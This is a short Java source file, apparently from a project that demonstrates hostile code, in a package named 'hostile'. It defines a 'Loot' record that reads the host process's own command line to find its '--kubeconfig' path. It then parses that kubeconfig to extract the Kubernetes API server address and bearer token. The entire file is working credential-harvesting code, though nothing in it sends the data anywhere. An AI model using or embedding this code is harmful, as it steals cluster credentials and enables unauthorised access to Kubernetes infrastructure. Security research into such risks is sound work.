package dev.midwatch.hostile;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

/** What lies about in the process. */
record Loot(String server, String token) {
    private static final Path COMMAND_LINE = Path.of("/proc/self/cmdline");

    /** From the command line of the process it runs in, as anything that runs there can. */
    static Path kubeconfig() throws IOException {
        List<String> words = List.of(Files.readString(COMMAND_LINE).split("\0"));
        return Path.of(words.get(words.indexOf("--kubeconfig") + 1));
    }

    static Loot in(Path kubeconfig) throws IOException {
        String text = Files.readString(kubeconfig);
        return new Loot(first(text, "server: *\"?(https://[^\"\\s,}]+)"), first(text, "token: *\"?([^\"\\s,}]+)"));
    }

    private static String first(String text, String pattern) {
        Matcher matcher = Pattern.compile(pattern).matcher(text.replace("\"server\":", "server: "));
        if (!matcher.find()) {
            throw new IllegalArgumentException("nothing like " + pattern);
        }
        return matcher.group(1);
    }
}
